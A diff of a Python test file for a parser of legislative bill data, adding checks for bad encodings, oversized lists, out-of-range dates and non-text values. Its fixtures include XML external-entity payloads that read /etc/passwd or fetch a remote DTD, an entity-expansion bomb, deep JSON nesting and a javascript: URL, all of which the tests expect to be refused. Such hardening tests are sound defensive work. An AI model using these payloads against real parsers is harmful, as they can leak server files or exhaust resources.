@@ -9,7 +9,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from app.parliaments.domain.own import COLUMNS
-from app.parliaments.readers.files import MAX_BYTES, SourceFile
+from app.parliaments.readers.files import MAX_BYTES, MAX_ROWS, SourceFile
 from app.parliaments.readers.reports import read_reports
 from app.parliaments.readers.xml import MAX_ELEMENTS
 from tests.parliaments import build
@@ -42,7 +42,12 @@ def a_file(content: bytes | str, name: str = "f") -> SourceFile:
         (b"{}", "unknown-layout", "f"),
         (b'{"actions": [], "actions": []}', "repeated-member", "f"),
         (b'{"actions": [NaN]}', "not-json", "f"),
-        (b'{"actions": ' + b"[" * 100_000, "not-json", "f"),
+        (b'{"actions": ' + b"[" * 100_000, "too-deep", "f"),
+        ("<billStatus/>".encode("utf-16"), "wrong-encoding", "f: byte 1"),
+        ("on,text\nFor tidligt på".encode("latin-1"), "wrong-encoding", "f: byte 21"),
+        (b"<billStatus>\n<bill>&nbsp;</bill></billStatus>", "not-xml", "f: line 2"),
+        (b"<billStatus>\n\x00</billStatus>", "not-xml", "f: line 2"),
+        (b'{"bill_id": "hr815-206", "actions": []}', "out-of-range", "f: /bill_id"),
         (b'{"actions": [], "pagination": {"count": ' + b"9" * 5_000 + b"}}", "not-json", "f"),
         (b'{"actions": []}', "no-vehicle", "f"),
         (b'{"bill_id": "815", "actions": []}', "no-vehicle", "f: /bill_id"),
@@ -65,14 +70,28 @@ def test_a_truncated_file_names_the_line_where_it_ends() -> None:
     assert place == f"f: line {len(cut.splitlines())}"
 
 
-@pytest.mark.parametrize(
-    "doctype",
-    [
-        '<!DOCTYPE billStatus [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
-        '<!DOCTYPE billStatus SYSTEM "file:///etc/passwd">',
-        '<!DOCTYPE billStatus [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd">%x;]>',
-    ],
+DOCTYPES = (
+    '<!DOCTYPE billStatus [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
+    '<!DOCTYPE billStatus SYSTEM "file:///etc/passwd">',
+    '<!DOCTYPE billStatus [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd">%x;]>',
 )
+
+
+def test_what_stands_there_is_beside_the_sentence_and_never_in_it() -> None:
+    for text, found in (
+        ("<billStatus><version>canary</version><bill/></billStatus>", "canary"),
+        ('{"bill_id": "canary815-118", "actions": []}', "canary"),
+        ('{"canary": 1, "canary": 2}', "canary"),
+        (build.bill_status("3.0.0", [build.row("2022-05-21", "x", build.LIBRARY, "canary")]).content, "canary"),
+    ):  # fmt: skip
+        [finding] = read_reports([a_file(text)]).findings
+        assert finding.found == found
+        assert found not in finding.detail
+        assert f"Found: '{found}'." in str(finding)
+        assert "canary" not in str(finding.to_problem())
+
+
+@pytest.mark.parametrize("doctype", DOCTYPES)
 def test_a_document_type_is_refused_before_anything_is_expanded(doctype: str) -> None:
     text = XML.decode().replace("<billStatus>", f"{doctype}\n<billStatus>", 1)
     assert findings(a_file(text)) == [("doctype", "f: line 2")]
@@ -95,8 +114,9 @@ def test_xml_of_more_elements_than_any_bill_has_is_refused() -> None:
         "Pursuant to " + "the Senate amendment " * 180,
         "Second cloture motion on " * 150,
         "Committee on " + "x. reported " * 300,
+        "1" * 3_900,
     ],
-    ids=["blanks", "brackets", "links", "amendments", "cloture", "reports"],
+    ids=["blanks", "brackets", "links", "amendments", "cloture", "reports", "digits"],
 )
 def test_a_text_made_to_take_long_takes_no_longer(text: str) -> None:
     rows = [build.row("2022-05-16", f"{text}{index}") for index in range(100)]
@@ -125,6 +145,12 @@ def with_row(**changes: Any) -> SourceFile:
         ({"actionCode": "17001", "sourceSystem": build.LIBRARY}, "unknown-code", "/actions/6"),
         ({"recordedVotes": [{"rollNumber": "many"}]}, "not-a-number", "/actions/6/recordedVotes/0"),
         ({"recordedVotes": [{"rollNumber": 7, "date": "2022-05-11"}]}, "invalid-time", "/actions/6/recordedVotes/0"),
+        ({"recordedVotes": [{"rollNumber": 7, "date": "0001-01-01T00:00:00+10:00"}]}, "date-out-of-range",
+         "/actions/6/recordedVotes/0"),
+        ({"recordedVotes": [{"rollNumber": True}]}, "not-a-text", "/actions/6/recordedVotes/0"),
+        ({"text": ["a"]}, "not-a-text", "/actions/6/text"),
+        ({"text": {"a": "b"}}, "not-a-text", "/actions/6/text"),
+        ({"actionTime": 1.5}, "not-a-text", "/actions/6/actionTime"),
         ({"recordedVotes": [{"rollNumber": 7, "url": "javascript:x"}]}, "invalid-url", "/actions/6/recordedVotes/0"),
     ],
 )  # fmt: skip
@@ -133,6 +159,44 @@ def test_a_bad_row_is_named_and_the_others_are_still_looked_at(
 ) -> None:
     found = findings(build.api_bill(), with_row(**changes))
     assert found == [(code, f"actions.json: {pointer}")]
+
+
+@pytest.mark.parametrize("at", ["0001-01-01T00:00:00Z", "9999-12-31T23:59:59-10:00"])
+def test_an_instant_at_the_end_of_all_days_is_out_of_range(at: str) -> None:
+    file = build.congress_data(actions=[{"acted_at": at, "text": "x"}])
+    assert findings(file) == [("date-out-of-range", "data.json: /actions/0")]
+
+
+OWN_ACTIONS = {
+    "schema": "aid-ledger/actions/1",
+    "vehicle": {"jurisdiction": "DK", "session": "2022-23", "identifier": "L 1"},
+    "actions": [{"on": "2023-08-18", "text": "Fremsat"}] * (MAX_ROWS + 1),
+}
+
+
+@pytest.mark.parametrize(
+    ("file", "place"),
+    [
+        (a_file(",".join(COLUMNS) + ("\n2023-08-18,,,x,da" + "," * 14) * (MAX_ROWS + 1)), "f"),
+        (build.json_file("own.json", OWN_ACTIONS), "own.json: /actions"),
+        (build.congress_data(actions=[{}] * (MAX_ROWS + 1)), "data.json: /actions"),
+        (build.api_page([build.ROWS[0]] * (MAX_ROWS + 1)), "actions.json"),
+        (build.bill_status("3.0.0", [build.ROWS[0]] * (MAX_ROWS + 1)), "bill.xml: line 8"),
+    ],
+    ids=["our CSV", "our JSON", "data.json", "the API", "BILLSTATUS"],
+)
+def test_a_list_that_no_bill_has_is_refused_before_it_is_read(file: SourceFile, place: str) -> None:
+    start = time.process_time()
+    assert findings(file) == [("too-large", place)]
+    assert time.process_time() - start < 2
+
+
+@pytest.mark.parametrize(
+    "file", [build.bill_status("3.0.0"), build.congress_data(), a_file(OWN_CSV)]
+)
+def test_a_byte_order_mark_is_no_harm(file: SourceFile) -> None:
+    marked = SourceFile(file.name, b"\xef\xbb\xbf" + file.content)
+    assert read_reports([marked]) == read_reports([file])
 
 
 def test_two_bad_rows_are_told_at_once() -> None:
